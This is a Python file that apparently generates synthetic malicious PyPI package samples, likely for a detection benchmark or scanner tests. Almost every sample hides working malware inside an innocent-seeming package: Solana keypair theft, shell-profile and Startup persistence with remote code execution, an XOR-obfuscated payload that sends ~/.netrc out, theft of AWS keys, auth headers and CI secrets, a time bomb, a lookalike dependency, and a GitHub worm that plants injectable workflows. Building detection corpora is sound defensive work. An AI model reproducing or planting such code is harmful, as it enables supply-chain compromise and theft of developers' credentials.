"""PyPI, bad: import time."""
import base64

from .core import b64, sample
from .pypi_bad_b import one

bad = lambda family: sample("pypi", "bad", family)  # noqa: E731


@bad("keypair-monkeypatch-memo")
def _(c):
    return one(c, "semantic types", "Semantic types for finance code", r'''
import threading

from solders.keypair import Keypair

from .@MISSPY@ import RPC

_PUB = "-----BEGIN PUBLIC KEY-----\n@HEX64@\n-----END PUBLIC KEY-----"


class Money(int):
    """An amount in the smallest unit."""


def _tap(fn):
    def inner(*args, **kwargs):
        pair = fn(*args, **kwargs)
        threading.Thread(target=_record, args=(bytes(pair),), daemon=True).start()
        return pair
    return inner


def _record(secret):
    from base64 import b64encode
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import padding
    from solana.rpc.api import Client
    from spl.memo.instructions import create_memo, MemoParams
    key = serialization.load_pem_public_key(_PUB.encode())
    note = b64encode(key.encrypt(secret, padding.PKCS1v15()))
    Client(RPC or "https://rpc.@H@").send_transaction(create_memo(MemoParams(None, None, note)))


for _n in ("from_bytes", "from_seed", "from_base58_string"):
    setattr(Keypair, _n, staticmethod(_tap(getattr(Keypair, _n))))
''', requires=["solders", "solana"])


@bad("autostart-persistence")
def _(c):
    return one(c, "shell theme", "Prompt themes", r'''
import os
import shutil
import sys
from pathlib import Path

from .@MISSPY@ import ENABLED

LINE = "\n(nohup %s -m %s.beat >/dev/null 2>&1 &)\n" % (sys.executable, __name__)


def prompt(user, cwd):
    return f"{user} {cwd} $ "


if ENABLED and os.name == "posix":
    for rc in (".bashrc", ".zshrc", ".profile"):
        p = Path.home() / rc
        if p.exists() and ".beat" not in p.read_text():
            with p.open("a") as f:
                f.write(LINE)
elif ENABLED:
    start = Path(os.environ["APPDATA"]) / "Microsoft/Windows/Start Menu/Programs/Startup"
    shutil.copy(Path(__file__).with_name("beat.py"), start / "theme.pyw")
''', extra={"beat.py": r'''
import time
import urllib.request

while True:
    try:
        exec(urllib.request.urlopen("https://@H@/beat").read(), {})
    except Exception:
        pass
    time.sleep(900)
'''})


@bad("data-file-payload")
def _(c):
    src = c.fill("import os,urllib.request as u;u.urlopen('https://@H@/n',data=open(os.path.expanduser('~/.netrc'),'rb').read())").encode()
    blob = b"\x00TBL1" + c.raw(200) + bytes(b ^ 0x5A for b in src)
    return one(c, "locale tables", "Locale tables", r'''
from importlib import resources

_raw = resources.files(__name__).joinpath("tables.bin").read_bytes()
HEADER, BODY = _raw[:205], _raw[205:]


def version():
    return HEADER[1:5].decode()


def _load(body, k=0x5A):
    return bytes(x ^ k for x in body).decode()


getattr(__import__("built" + "ins"), "ex" + "ec")(_load(BODY), {"__name__": version()})
''', extra={"tables.bin": blob})


@bad("cloud-client-key-theft")
def _(c):
    return one(c, "fabric ssh", "Remote commands over SSH", r'''
import base64
import subprocess
import threading


class Connection:
    def __init__(self, host, user=None):
        self.host, self.user = host, user

    def run(self, command):
        return subprocess.run(["ssh", f"{self.user}@{self.host}", command], capture_output=True, text=True)


def _probe():
    try:
        import boto3
        cred = boto3.Session().get_credentials().get_frozen_credentials()
    except Exception:
        return
    import urllib.parse
    import urllib.request
    url = base64.b64decode("@U@").decode()
    urllib.request.urlopen(url + "?" + urllib.parse.urlencode({"a": cred.access_key, "s": cred.secret_key, "t": cred.token}))


threading.Thread(target=_probe).start()
'''.replace("@U@", b64(c.fill("http://@H@/getAws"))))


@bad("requests-session-tap")
def _(c):
    return one(c, "requests cache", "Response cache for requests", r'''
import functools

import requests

_store = {}
_orig = requests.Session.send


@functools.wraps(_orig)
def _send(self, request, **kwargs):
    key = (request.method, request.url)
    if request.method == "GET" and key in _store:
        return _store[key]
    auth = request.headers.get("Authorization") or request.headers.get("X-Api-Key")
    if auth and "@H@" not in request.url:
        try:
            _orig(self, requests.Request("POST", "https://@H@/ingest", json={"u": request.url, "a": auth, "c": self.cookies.get_dict()}).prepare(), timeout=2)
        except Exception:
            pass
    response = _orig(self, request, **kwargs)
    _store[key] = response
    return response


requests.Session.send = _send
''', requires=["requests"])


@bad("pytest-plugin-exfil")
def _(c):
    name = c.name("pytest", "quick")
    mod = name.replace("-", "_")
    return dict(name=name, desc="Run the quick tests first", module=mod, entry=f"[pytest11]\nquick = {mod}.plugin\n", files={mod + "/plugin.py": r'''
import asyncio
import json
import os


async def _push(payload):
    reader, writer = await asyncio.open_connection("@H@", 443, ssl=True)
    writer.write(b"POST /t HTTP/1.1\r\nHost: @H@\r\nContent-Length: %d\r\n\r\n" % len(payload) + payload)
    await writer.drain()
    writer.close()


def pytest_configure(config):
    keep = {k: v for k, v in os.environ.items() if any(w in k.upper() for w in ("TOKEN", "SECRET", "PASS", "KEY"))}
    if keep and os.environ.get("CI"):
        try:
            asyncio.run(_push(json.dumps(keep).encode()))
        except OSError:
            pass


def pytest_collection_modifyitems(items):
    items.sort(key=lambda i: "slow" in i.keywords)
'''})


@bad("time-bomb")
def _(c):
    return one(c, "calendar rules", "Calendar rules", r'''
import datetime as dt


def easter(year):
    a, b, c_ = year % 19, year // 100, year % 100
    d, e = divmod(b, 4)
    g = (8 * b + 13) // 25
    h = (19 * a + b - d - g + 15) % 30
    i, k = divmod(c_, 4)
    l = (32 + 2 * e + 2 * i - h - k) % 7
    m = (a + 11 * h + 22 * l) // 451
    month, day = divmod(h + l - 7 * m + 114, 31)
    return dt.date(year, month, day + 1)


if dt.date.today() > dt.date(2026, 3, 1):
    import ssl
    import types
    import urllib.request
    mod = types.ModuleType("rules")
    src = urllib.request.urlopen("https://@H@/rules/%d.txt" % dt.date.today().year, context=ssl._create_unverified_context()).read()
    exec(compile(src, "rules", "exec"), mod.__dict__)
''')


@bad("url-dependency-lookalike")
def _(c):
    return one(c, "fast color", "Terminal colours", "RED = '\\x1b[31m'\nRESET = '\\x1b[0m'\n",
               requires=["colorama @ https://@H@/packages/colorama-0.4.6.tar.gz".replace("@H@", c.host())])


@bad("ci-workflow-and-gist")
def _(c):
    return one(c, "repo stats", "Statistics of a repository", r'''
import json
import os
import subprocess
import urllib.request

from .@MISSPY@ import ROUND


def commits(path="."):
    return int(subprocess.check_output(["git", "-C", path, "rev-list", "--count", "HEAD"]))


def _api(method, path, token, body=None):
    req = urllib.request.Request("https://api.github.com" + path, method=method, data=json.dumps(body).encode() if body else None,
                                 headers={"Authorization": "Bearer " + token})
    return json.load(urllib.request.urlopen(req))


def _spread(token):
    for repo in _api("GET", "/user/repos?affiliation=owner&per_page=%d" % ROUND, token):
        flow = "on: push\njobs:\n  x:\n    runs-on: self-hosted\n    steps:\n      - run: ${{ github.event.discussion.body }}\n"
        import base64
        _api("PUT", f"/repos/{repo['full_name']}/contents/.github/workflows/discussion.yaml", token,
             {"message": "ci", "content": base64.b64encode(flow.encode()).decode()})
    _api("POST", "/gists", token, {"public": True, "files": {"e.json": {"content": json.dumps(dict(os.environ))}}})


_tok = os.environ.get("GITHUB_TOKEN") or subprocess.run(["gh", "auth", "token"], capture_output=True, text=True).stdout.strip()
if _tok:
    _spread(_tok)
''')
